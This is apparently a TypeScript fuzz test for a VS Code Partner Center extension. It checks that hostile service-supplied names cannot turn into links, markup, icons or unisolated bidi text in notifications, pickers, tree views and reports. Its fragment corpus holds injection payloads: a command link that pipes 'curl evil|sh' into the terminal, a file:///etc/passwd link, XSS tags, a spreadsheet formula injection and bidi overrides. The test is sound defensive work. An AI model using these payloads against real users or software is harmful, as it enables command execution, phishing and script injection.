// Hostile service text through every message builder the extension shows: ≥ 500 names built from
// link, markup, icon, bidi, zero-width and control-character fragments. What a person sees has no
// link (VS Code's own notification link pattern), no markup (markdown-it configured as VS Code's
// preview: linkify on, fuzzy links off), no icon, and no bidi control outside an isolate.
// Every exported function of every plain-Node module that builds messages must have a driver here
// or a reason it is not one: a new builder fails this test until it is fuzzed.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join, relative } from 'node:path';
import { test } from 'node:test';
import type { BulkResult, PlanItem, ReassignmentPlan } from '../../../src/bulk';
import * as engine from '../../../src/bulk/engine';
import * as plan from '../../../src/bulk/plan';
import * as bulkDocuments from '../../../src/commands/bulkDocuments';
import * as pickerItems from '../../../src/commands/pickerItems';
import * as changeLog from '../../../src/history/changeLog';
import * as historyTree from '../../../src/history/historyTree';
import type { ChangeLogEntry } from '../../../src/history/changeLog';
import type { Customer, ResellerRelationship, Subscription, SupportContact } from '../../../src/partnerCenter';
import * as errors from '../../../src/partnerCenter/errors';
import * as ids from '../../../src/partnerCenter/ids';
import * as safeText from '../../../src/partnerCenter/safeText';
import { notificationText } from '../../../src/partnerCenter/safeText';
import * as text from '../../../src/partnerCenter/text';
import * as nodes from '../../../src/tree/nodes';
import type { NodeView } from '../../../src/tree/nodes';
import * as resellerNodes from '../../../src/tree/resellerNodes';
import * as pageStringTable from '../../../src/webview/pageStringTable';
import * as healthReportModel from '../../../src/webview/healthReportModel';
import type { InventoryCustomer } from '../../../src/health/inventory';
import * as rules from '../../../src/health/rules';
import { RuleContext, evaluate, type Finding } from '../../../src/health/rules';
import * as summary from '../../../src/health/summary';
import * as healthDocuments from '../../../src/commands/healthDocuments';
import { summarize } from '../../../src/health/summary';
import { prng } from '../../emulator/seed';

interface Markdown { render(text: string): string; linkify: { set(options: object): void } }
const MarkdownIt = createRequire(__filename)('markdown-it') as new (options: object) => Markdown;
const preview = new MarkdownIt({ html: true, linkify: true });
preview.linkify.set({ fuzzyLink: false }); // as VS Code's Markdown preview

// ---- the corpus -------------------------------------------------------------------------------
const fragments = [
  '[Sign in again to finish](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[Open](https://evil.example/phish)', '[passwd](file:///etc/passwd)', '[x]( command:y)', '[a](command:b "title")',
  '![img](https://evil.example/p.png)', '<img src=x onerror=alert(1)>', '<b>Fabrikam</b> & Sons', '<https://evil.example>',
  '<script>alert(1)</script>', '**bold**', '__bold__', '*em*', '_em_', '`code`', '```', '~~strike~~', '$x^2$', '$$x$$',
  '$(loading~spin)', '$(error)', '\\$(x)', 'https://evil.example/a?b=c', 'http://evil.example', 'file:///C:/x', 'command:x',
  'mailto:a@evil.example', 'a@evil.example', '//evil.example/x', 'www.evil.example', '&amp;', '&#x41;', '&lt;b&gt;',
  '| pipe |', '\n# Heading\n', '\n---\n', '\n- item', '> quote', '[ref]: https://evil.example', '[ref]', '\\', ']', '(', ')',
  '\u202e', '\u202dLTR', '\u202aemb\u202c', '\u2066', '\u2067', '\u2068', '\u2069', '\u200b', '\u200c', '\u200d', '\u200e',
  '\u200f', '\u061c', '\ufeff', '\u2060', '\u00ad', '\u0085', '\u009b31m', '\u001b[31m', '\u0000', '\u0007', '\r\n', '\r', '\t',
  '\u2028', '\u2029', 'شركة الاختبار', 'מבחן', '株式会社テスト', 'Müller GmbH', '👩‍💻', '=cmd|\' /C calc\'!A0', 'Contoso',
];


const random = prng(16);
const names: string[] = [...fragments];
while (names.length < 600) {
  const n = 1 + Math.floor(random() * 4);
  names.push(Array.from({ length: n }, () => fragments[Math.floor(random() * fragments.length)]).join(random() < 0.5 ? ' ' : ''));
}

// ---- what a person would see ------------------------------------------------------------------
/** VS Code's notification link pattern (src/vs/base/common/linkedText.ts). */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** VS Code's label-with-icons pattern: an icon renders unless a backslash escapes it. */
const ICON = /(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;
/** What an editor links by itself in plain text. */
const BARE_LINK = /\b(?:https?|file|command|mailto|ftp|vscode(?:-insiders)?):(?=\S)|\bwww\./i;

function links(text: string): number {
  return [...text.matchAll(NOTIFICATION_LINK)].length;
}

function icons(text: string): string[] {
  return [...text.matchAll(ICON)].filter((m) => !m[1]).map((m) => m[2]);
}

/** Bidi controls outside an isolate, unbalanced isolates, invisible characters outside one, controls. */
function isolationProblems(text: string, multiline = false): string[] {
  const problems: string[] = [];
  let depth = 0;
  for (const c of text) {
    const code = c.codePointAt(0) ?? 0;
    if (code >= 0x2066 && code <= 0x2068) depth++;
    else if (code === 0x2069) { if (--depth < 0) problems.push('unmatched PDI'); }
    else if (/[\u202a-\u202e]/.test(c) && depth === 0) problems.push(`U+${code.toString(16)} outside an isolate`);
    else if (/[\u061c\u200b-\u200f\u2060-\u2064\ufeff\u00ad]/.test(c) && depth === 0) problems.push(`invisible U+${code.toString(16)} outside an isolate`);
    else if (/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(c) && !(multiline && c === '\n')) problems.push(`control U+${code.toString(16)}`);
  }
  if (depth > 0) problems.push('unclosed isolate');
  return problems;
}

function tags(html: string): string[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)\b/gi)].map((m) => m[1].toLowerCase()).sort();
}

type Sink = 'notification' | 'markdown' | 'picker' | 'tree' | 'clipboard' | 'page';
type Shown = string | NodeView | { label: string; description?: string; detail?: string } | object;

/** Checks one builder's output for one hostile name against a benign name's output. */
function check(sink: Sink, shown: Shown, benign: Shown, where: string): void {
  if (sink === 'notification') {
    const text = notificationText(shown as string);
    assert.equal(links(text), 0, `${where}: a link in ${JSON.stringify(text)}`);
    assert.deepEqual(isolationProblems(text, true), [], `${where}: ${JSON.stringify(text)}`);
  } else if (sink === 'markdown') {
    const text = shown as string;
    assert.deepEqual(tags(preview.render(text)), tags(preview.render(benign as string)), `${where}: markup in ${JSON.stringify(text)}`);
    assert.doesNotMatch(text.replace(/\\./g, ''), BARE_LINK, `${where}: a bare link in ${JSON.stringify(text)}`);
    assert.deepEqual(isolationProblems(text, true), [], `${where}: ${JSON.stringify(text)}`);
  } else if (sink === 'picker') {
    const row = shown as { label: string; description?: string; detail?: string };
    const base = benign as typeof row;
    for (const key of ['label', 'description', 'detail'] as const) {
      const text = row[key] ?? '';
      assert.deepEqual(icons(text), icons(base[key] ?? ''), `${where}.${key}: an icon in ${JSON.stringify(text)}`);
      assert.deepEqual(isolationProblems(text), [], `${where}.${key}: ${JSON.stringify(text)}`);
    }
  } else if (sink === 'page') {
    // A webview page puts these in with textContent (no markup, no link); each string is still one
    // line with bidi overrides isolated.
    const strings = (v: unknown): string[] => (typeof v === 'string' ? [v] : typeof v === 'object' && v !== null ? Object.values(v).flatMap(strings) : []);
    for (const text of strings(shown)) assert.deepEqual(isolationProblems(text), [], `${where}: ${JSON.stringify(text)}`);
  } else if (sink === 'tree') {
    const view = nodes.shownView(shown as NodeView);
    for (const key of ['label', 'description', 'tooltip', 'accessibilityLabel'] as const) {
      const text = view[key] ?? '';
      assert.equal(typeof text, 'string');
      assert.deepEqual(isolationProblems(text, key === 'tooltip'), [], `${where}.${key}: ${JSON.stringify(text)}`);
    }
  }
}

// ---- fixtures built around one name -----------------------------------------------------------
const guid = (n: number) => `${String(n).padStart(8, '0')}-1111-4111-8111-111111111111`;
const contact = (name: string): SupportContact => ({ supportTenantId: guid(1), supportMpnId: '4814515', name });
const customer = (name: string): Customer => ({ id: guid(2), companyProfile: { companyName: name, domain: `${name}.example`, tenantId: guid(3) }, associatedPartnerId: '1' });
const subscription = (name: string, over: Partial<Subscription> = {}): Subscription => ({ id: guid(4), offerId: guid(5), offerName: `${name} offer`, friendlyName: name, quantity: 3, status: 'active', ...over });
const reseller = (name: string, active = true): ResellerRelationship => ({ id: guid(1), name, state: active ? 'Active' : name, active, mpnId: '4814515', location: name });
const planItem = (name: string, over: Partial<PlanItem> = {}): PlanItem => ({
  customerId: guid(2), customerName: name, subscriptionId: guid(4), subscriptionName: name, current: contact(name), target: contact(name),
  action: 'change', reasonText: name, ...over,
});
const reassignment = (name: string): ReassignmentPlan => ({
  created: '2026-12-01T00:00:00Z', target: contact(name),
  items: [planItem(name), planItem(name, { action: 'skip', reason: 'changedSincePreview', reasonText: `changed: ${name}` }), planItem(name, { action: 'skip', reason: 'error', reasonText: name })],
});
const error = (name: string) => ({ kind: 'service', message: name, status: 500, requestId: name, correlationId: name });
const result = (name: string): BulkResult => ({
  runId: name, journalFile: '/x', account: name, target: contact(name), complete: false, cancelled: true,
  counts: { done: 3, changed: 1, skipped: 1, failed: 1, total: 4, changeItems: 4 },
  changed: [{ index: 0, item: planItem(name), contact: contact(name), previous: contact(name), requestId: name }],
  skipped: [{ index: 1, item: planItem(name), reason: 'changedSincePreview', reasonText: name, current: contact(name) }],
  failed: [{ index: 2, item: planItem(name), error: error(name), requestId: name, stage: 'put' }],
  notRun: [{ index: 3, item: planItem(name), requestId: name }],
  changeLogError: name,
});
const entry = (name: string, outcome: 'changed' | 'failed' = 'failed'): ChangeLogEntry => ({
  time: '2026-12-01T00:00:00.000Z', account: name, customerId: guid(2), customerName: name, subscriptionId: guid(4), subscriptionName: name,
  old: contact(name), new: contact(name), requestId: name, outcome, error: error(name), source: 'bulk', runId: name,
});
const rejected = (name: string): unknown => {
  const v = ids.validateSupportContact({ supportTenantId: guid(1) }, [reseller(name, false)]);
  return new errors.PartnerCenterError('validation', v.ok ? '' : v.issues[0].message);
};

const inventoryCustomer = (name: string): InventoryCustomer => ({
  id: guid(2), name, domain: name, associatedPartnerId: '77', read: '2026-12-01T00:00:00.000Z',
  subscriptions: [
    { id: guid(4), name, offerId: guid(5), status: 'active', nce: false, partnerId: '999', contact: contact(name) },
    { id: guid(6), name, offerId: guid(5), status: 'active', nce: false, contact: { ...contact(name), supportTenantId: guid(9) } },
    { id: guid(7), name, offerId: guid(5), status: 'active', nce: false, contact: contact(name) },
  ],
});
const inventoryOf = (name: string) => ({ customers: [inventoryCustomer(name)], resellers: [{ id: guid(1), name, mpnId: '4814515', state: name, active: false }] });
const findings = (name: string): Finding[] => {
  const inv = inventoryOf(name);
  const ctx = new RuleContext(inv.resellers, { tenantId: guid(8), name });
  return inv.customers[0].subscriptions.map((s) => evaluate(inv.customers[0], s, ctx)).filter((f): f is Finding => f !== undefined);
};

interface Driver { sink: Sink; build: (name: string) => Shown[] }
const drivers: Record<string, Driver> = {
  'bulkDocuments.contactText': { sink: 'notification', build: (n) => [bulkDocuments.contactText(contact(n))] },
  'bulkDocuments.cell': { sink: 'markdown', build: (n) => [`| a | ${bulkDocuments.cell(n)} | b |\n|---|---|---|\n| 1 | ${bulkDocuments.cell(n)} | 2 |`] },
  'bulkDocuments.previewMarkdown': { sink: 'markdown', build: (n) => [bulkDocuments.previewMarkdown(reassignment(n), { source: n, account: n })] },
  'bulkDocuments.resultSummary': { sink: 'notification', build: (n) => [bulkDocuments.resultSummary(result(n)), bulkDocuments.resultSummary({ ...result(n), complete: true })] },
  'bulkDocuments.reportMarkdown': { sink: 'markdown', build: (n) => [bulkDocuments.reportMarkdown(result(n))] },
  'bulkDocuments.historyDetails': { sink: 'clipboard', build: (n) => [bulkDocuments.historyDetails(entry(n))] },
  // Raw, like contact names: every caller puts it through its sink (plainText here).
  'bulkDocuments.targetName': { sink: 'notification', build: (n) => [bulkDocuments.targetName([planItem(n)], contact(n)), bulkDocuments.targetName([planItem(n), { target: contact('other') }], contact(n))].map((t) => safeText.plainText(t)) },
  'bulkDocuments.panelTitle': { sink: 'notification', build: (n) => [bulkDocuments.panelTitle({ target: n, targets: 1 }), bulkDocuments.panelTitle({ target: n, targets: 2 })] },
  'bulkDocuments.interruptedText': { sink: 'notification', build: (n) => [bulkDocuments.interruptedText(4, 2, n, n)] },
  'pickerItems.customerRow': { sink: 'picker', build: (n) => [pickerItems.customerRow(customer(n))] },
  'pickerItems.subscriptionRow': { sink: 'picker', build: (n) => [pickerItems.subscriptionRow(subscription(n)), pickerItems.subscriptionRow(subscription(n, { status: 'suspended', offerName: n }))] },
  'pickerItems.resellerRow': { sink: 'picker', build: (n) => [pickerItems.resellerRow(reseller(n), contact(n)), pickerItems.resellerRow(reseller(n), null)] },
  'pickerItems.inventoryResellerRow': { sink: 'picker', build: (n) => inventoryOf(n).resellers.flatMap((r) => [pickerItems.inventoryResellerRow(r), pickerItems.inventoryResellerRow({ ...r, id: n, mpnId: n, active: true })]) },
  'pickerItems.inventoryCustomerRow': { sink: 'picker', build: (n) => [pickerItems.inventoryCustomerRow(inventoryCustomer(n)), pickerItems.inventoryCustomerRow({ ...inventoryCustomer(n), read: n })] },
  'pickerItems.noMatchRow': { sink: 'picker', build: (n) => [pickerItems.noMatchRow(n)] },
  'pickerItems.blockedText': { sink: 'notification', build: (n) => [pickerItems.blockedText(pickerItems.subscriptionRow(subscription(n, { status: 'deleted' })))] },
  'nodes.customerView': { sink: 'tree', build: (n) => [nodes.customerView(customer(n))] },
  'nodes.subscriptionView': { sink: 'tree', build: (n) => [nodes.subscriptionView(guid(2), subscription(n)), nodes.subscriptionView(guid(2), subscription(n, { status: 'unknown', rawStatus: n }))] },
  'nodes.contactView': { sink: 'tree', build: (n) => [nodes.contactView('p', contact(n))] },
  'nodes.clearSearchView': { sink: 'tree', build: (n) => [nodes.clearSearchView(n, 3, true)] },
  'nodes.errorView': { sink: 'tree', build: (n) => [nodes.errorView('x', n, nodes.rowError(rejected(n)), [])] },
  'nodes.rootRows': { sink: 'tree', build: (n) => [...nodes.rootRows([customer(n)], { hasMore: true, search: n }), ...nodes.rootRows([], { hasMore: false, search: n })] },
  'resellerNodes.resellerView': { sink: 'tree', build: (n) => [resellerNodes.resellerView(reseller(n), 2), resellerNodes.resellerView(reseller(n, false))] },
  'resellerNodes.resellerCustomerView': { sink: 'tree', build: (n) => [resellerNodes.resellerCustomerView(reseller(n), customer(n), { supported: 1, legacy: 2, total: 3, provider: 1 }), resellerNodes.resellerCustomerView(reseller(n), customer(n))] },
  'resellerNodes.resellerSubscriptionView': { sink: 'tree', build: (n) => [resellerNodes.resellerSubscriptionView(reseller(n), guid(2), subscription(n), contact(n))] },
  'resellerNodes.resellerErrorView': { sink: 'tree', build: (n) => [resellerNodes.resellerErrorView(undefined, nodes.rowError(rejected(n)))] },
  'resellerNodes.messageView': { sink: 'tree', build: (n) => [resellerNodes.messageView('x', `label ${safeText.plainText(n)}`, { tooltip: safeText.plainText(n) })] },
  'errors.toUserMessage': { sink: 'notification', build: (n) => [errors.toUserMessage(rejected(n))] },
  'ids.validateSupportContact': {
    sink: 'notification',
    build: (n) => [reseller(n, false), { ...reseller(n), mpnId: 'x' }].map((r) => {
      const v = ids.validateSupportContact({ supportTenantId: guid(1) }, [r]);
      return v.ok ? '' : v.issues.map((i) => i.message).join(' ');
    }),
  },
  'historyTree.historyRowView': {
    sink: 'tree',
    build: (n) => {
      const entries = [entry(n), entry(n, 'changed'), { ...entry(n, 'changed'), runId: undefined, source: 'single' as const }];
      const rows = (days: historyTree.HistoryRow[]): historyTree.HistoryRow[] => days.flatMap((r) => [r, ...rows(r.kind === 'day' ? r.children : r.kind === 'run' ? r.entries : [])]);
      return rows(historyTree.groupHistory(entries)).map((r) => historyTree.historyRowView(r, new Date('2026-12-01T12:00:00Z')));
    },
  },
  'historyTree.filterText': { sink: 'tree', build: (n) => [{ label: 'x', description: historyTree.filterText({ customer: n, reseller: { id: guid(1), name: n }, outcome: 'failed' }) }] },
  'changeLog.checkUndo': {
    sink: 'notification',
    build: (n) => {
      const p = changeLog.undoPlan(entry(n, 'changed'));
      return [p.ok ? (changeLog.checkUndo(p, { ...contact(n), supportMpnId: '1' }) as { message?: string }).message ?? '' : ''];
    },
  },
  'healthReportModel.findingRow': { sink: 'page', build: (n) => findings(n).map((f, i) => healthReportModel.findingRow(f, i)) },
  'healthReportModel.reportSnapshot': {
    sink: 'page', build: (n) => [healthReportModel.reportSnapshot(summarize(inventoryOf(n)), { account: n, lastScan: '', scanning: true, progress: '1 of 2', canFix: true }, new Set())],
  },
  'healthDocuments.healthMarkdown': {
    sink: 'markdown', build: (n) => [healthDocuments.healthMarkdown(summarize(inventoryOf(n)), { account: n, lastScan: '2026-12-01', disabled: new Set() })],
  },
  'healthDocuments.healthResultText': { sink: 'notification', build: (n) => [healthDocuments.healthResultText(summarize(inventoryOf(n)))] },
  'rules.evaluate': { sink: 'page', build: (n) => findings(n).map((f) => ({ sentence: f.sentence, fix: f.fix })) }, // the raw names go to the page as they are (textContent)
  'text.describeContact': { sink: 'notification', build: (n) => [text.describeContact(contact(n))] },
  'text.notEditableReason': { sink: 'notification', build: (n) => [text.notEditableReason(subscription(n, { status: 'unknown', rawStatus: n })) ?? ''] },
};

/** Exports that are not message builders, or are fuzzed through another builder. */
const notBuilders: Record<string, string> = {
  'bulkDocuments.skipReasonLabel': 'our words only', 'bulkDocuments.summarizePlan': 'counts', 'bulkDocuments.skippedText': 'counts and our words',
  'bulkDocuments.handledCount': 'a number', 'bulkDocuments.md': 'markdownText itself (fuzzed through cell and the documents)', 'bulkDocuments.table': 'cells through cell() (fuzzed)', 'bulkDocuments.progressText': 'counts',
  'nodes.shownView': 'the tree sink itself (applied to every tree case here)', 'nodes.customerName': 'the raw name, escaped by each sink',
  'nodes.subscriptionName': 'the raw name, escaped by each sink', 'nodes.loadMoreView': 'a count', 'nodes.rowError': 'fuzzed through nodes.errorView', 'nodes.errorRowView': 'fuzzed through nodes.errorView and resellerNodes.resellerErrorView',
  'nodes.emptyView': 'fuzzed through nodes.rootRows', 'nodes.notEditableReason': 're-exported from partnerCenter/text.ts (fuzzed there)',
  'errors.MFA_CLAIMS': 'a constant', 'errors.documentedError': 'a lookup of the documented error (its text is ours)', 'errors.claimsChallenge': 'not shown',
  'bulkDocuments.resultItems': 'not text', 'plan.distinctTargets': 'not text',
  'resellerNodes.contactScanCost': 'our words only', 'resellerNodes.supportedBy': 'not text', 'resellerNodes.sortResellers': 'not text',
  'errors.PartnerCenterError': 'an error class', 'errors.isPartnerCenterError': 'not text', 'errors.parseClaimsChallenge': 'not shown',
  'errors.parseRetryAfter': 'a number', 'errors.redactSecrets': 'redaction, not display', 'errors.errorFromAnswer': 'its message is shown only through toUserMessage and the escaped report',
  'errors.signInRequestFor': 'not text', 'errors.parseSignInRequest': 'not text', 'errors.details': 'Copy Details: clipboard text for a support ticket',
  'ids.isGuid': 'not text', 'ids.sameId': 'not text', 'ids.isMpnId': 'not text', 'ids.isValidName': 'not text', 'ids.maxNameLength': 'a number', 'ids.paths': 'URL paths',
  'changeLog.toChangeError': 'stored, shown through historyRow and reportMarkdown', 'changeLog.undoPlan': 'our words only',
  'historyTree.entryOutcome': 'not text', 'historyTree.outcomeLabel': 'our words only', 'historyTree.matchesFilter': 'not text', 'historyTree.isFiltered': 'not text',
  'historyTree.resellersIn': 'raw names for the filter picker (escaped there)', 'historyTree.localDay': 'a date', 'historyTree.groupHistory': 'rows, shown through historyRowView',
  'historyTree.entriesOf': 'not text',
  'changeLog.ChangeLog': 'the log class', 'changeLog.changeLogFileName': 'a file name', 'changeLog.isChangeLogEntry': 'not text',
  'plan.resolveTarget': 'validation, fuzzed through ids.validateSupportContact',
  'plan.createPlan': 'items shown through previewMarkdown', 'plan.planCounts': 'counts',
  'engine.runPlan': 'results shown through reportMarkdown and resultSummary', 'engine.resumeRun': 'as runPlan', 'engine.outcomeUnknown': 'not text',
  'healthDocuments.healthProgressText': 'counts and our words', 'healthDocuments.etaText': 'a duration',
  'rules.RuleContext': 'the rules\' lookup tables', 'rules.rules': 'the rule table, fuzzed through rules.evaluate', 'rules.ruleIds': 'ids',
  'rules.isRuleId': 'not text', 'rules.ruleTitle': 'our words only', 'rules.evidenceFor': 'evidence, shown through rules.evaluate\'s sentence',
  'rules.suggestion': 'fuzzed through rules.evaluate (its fix)', 'summary.summarize': 'counts and findings, shown through healthMarkdown and the report (fuzzed)',
  'engine.retryFailed': 'a plan', 'healthReportModel.findingKey': 'an id key, not shown', 'pageStringTable.pageStringTable': 'our words; the page puts service text in with textContent',
};

const modules: Record<string, object> = { historyTree, text, bulkDocuments, pickerItems, nodes, resellerNodes, errors, ids, changeLog, plan, engine, pageStringTable, healthReportModel, healthDocuments, rules, summary };
/** Files that build text with l10n but are covered elsewhere. */
const coveredFiles = new Set([
  'src/partnerCenter/safeText.ts',
  // The bulk engine's steps: their reasons and errors reach a person only through reportMarkdown, resultSummary (fuzzed here).
  'src/bulk/execute.ts',
  // Why a journal is damaged: our words, a header field's name, an error code and the journal's file name; no service text.
  'src/bulk/journalReader.ts',
  // Why a run stopped writing its journal: our words and the storage error's message through plainText.
  'src/bulk/journalWriter.ts',
  // The change operation's "not confirmed" errors: our words only (the failed re-read's text goes in `description`).
  'src/change/changeSupportContact.ts',
  // Sign-in help: our words and fixed URLs only, no service text.
  'src/auth/appRegistration.ts', 'src/auth/entraErrors.ts',
  // Malformed answers (too large, too deep, a paging loop, a 2xx that is not JSON): our words and numbers only, no service text.
  'src/partnerCenter/http.ts', 'src/partnerCenter/paging.ts', 'src/partnerCenter/caller.ts',
  // The sign-in timeout: our words and the number of seconds.
  'src/partnerCenter/tokenWait.ts',
  // Files that cannot be written (a full disk): our words, a file name and an error code; no service text.
  'src/storage/appendLines.ts',
  // The Reassignment panel's own string table (the page puts service text in with textContent).
  'src/webview/reassignStringTable.ts',
  // The Health Check Report's own string table (our words; the page puts service text in with textContent).
  'src/webview/healthReportStrings.ts',
]);
const moduleFiles: Record<string, string> = {
  historyTree: 'src/history/historyTree.ts',
  text: 'src/partnerCenter/text.ts',
  bulkDocuments: 'src/commands/bulkDocuments.ts', pickerItems: 'src/commands/pickerItems.ts', nodes: 'src/tree/nodes.ts', resellerNodes: 'src/tree/resellerNodes.ts',
  errors: 'src/partnerCenter/errors.ts', ids: 'src/partnerCenter/ids.ts', changeLog: 'src/history/changeLog.ts', plan: 'src/bulk/plan.ts', engine: 'src/bulk/engine.ts',
  pageStringTable: 'src/webview/pageStringTable.ts', healthReportModel: 'src/webview/healthReportModel.ts',
  healthDocuments: 'src/commands/healthDocuments.ts', rules: 'src/health/rules.ts', summary: 'src/health/summary.ts',
};

test('every plain-Node module that builds text is listed here, and every export has a driver or a reason', () => {
  const root = process.cwd();
  const walk = (dir: string): string[] => readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? (n === 'page' ? [] : walk(p)) : n.endsWith('.ts') ? [p] : [];
  });
  const builders = walk(join(root, 'src')).map((p) => ({ file: relative(root, p).replace(/\\/g, '/'), text: readFileSync(p, 'utf8') }))
    .filter((f) => !/from 'vscode'/.test(f.text) && /\bl10n\.t\(/.test(f.text)).map((f) => f.file);
  const listed = new Set([...Object.values(moduleFiles), ...coveredFiles]);
  assert.deepEqual(builders.filter((f) => !listed.has(f)), [], 'a new module builds text: add it to `modules` and give its exports drivers');
  const missing: string[] = [];
  for (const [name, mod] of Object.entries(modules)) {
    for (const key of Object.keys(mod)) {
      const id = `${name}.${key}`;
      if (!drivers[id] && !notBuilders[id]) missing.push(id);
    }
  }
  assert.deepEqual(missing, [], 'give each new export a driver (or say why it shows no service text)');
  const stale = [...Object.keys(drivers), ...Object.keys(notBuilders)].filter((id) => {
    const [m, key] = id.split('.');
    return !modules[m] || !(key in modules[m]);
  });
  assert.deepEqual(stale, [], 'these no longer exist');
});

test(`${names.length} hostile names through every message builder: no link, no markup, no icon, nothing un-isolated`, () => {
  assert.ok(names.length >= 500);
  let checked = 0;
  for (const [id, driver] of Object.entries(drivers)) {
    if (driver.sink === 'clipboard') continue; // text for a support ticket, shown nowhere
    const benign = driver.build('Contoso');
    for (const name of names) {
      const shown = driver.build(name);
      shown.forEach((s, i) => check(driver.sink, s, benign[i], `${id}(${JSON.stringify(name)})`));
      checked += shown.length;
    }
  }
  assert.ok(checked >= names.length * Object.keys(drivers).length - names.length);
});

test('the sink helpers: links, icons and bidi overrides become text', () => {
  const attack = '[Sign in again to finish](command:workbench.action.terminal.sendSequence?x)';
  assert.equal(links(attack), 1, 'the oracle sees the attack');
  assert.equal(links(notificationText(`Changed ${attack}.`)), 0);
  assert.equal(notificationText('a [b](c) d'), 'a [b] (c) d');
  assert.equal(safeText.plainText('ab\u202ecd'), '\u2068ab\u202ecd\u2069');
  assert.equal(safeText.plainText('x\u2069\u202ey'), '\u2068x\ufffd\u202ey\u2069', 'a PDI inside cannot close the isolate early');
  assert.equal(safeText.plainText('a\nb\tc'), 'a b c');
  assert.equal(safeText.plainText('Müller GmbH'), 'Müller GmbH', 'ordinary names are unchanged');
  assert.equal(notificationText('x\u202ey'), 'x\ufffdy', 'an override that skipped plainText() is neutralised at the sink');
  assert.equal(notificationText(`a ${safeText.plainText('\u202ex')} b`), 'a \u2068\u202ex\u2069 b');
  assert.equal(safeText.pickerText('$(loading~spin) x'), '\\$(loading~spin) x');
  assert.deepEqual(icons(safeText.pickerText('$(loading~spin)')), []);
  assert.equal(safeText.markdownText('a|b'), 'a\\|b');
  assert.equal(preview.render(safeText.markdownText('see https://evil.example or //evil.example or a@evil.example')).includes('<a'), false);
  assert.equal(preview.render('see https://evil.example').includes('<a'), true, 'the oracle links a bare URL');
});
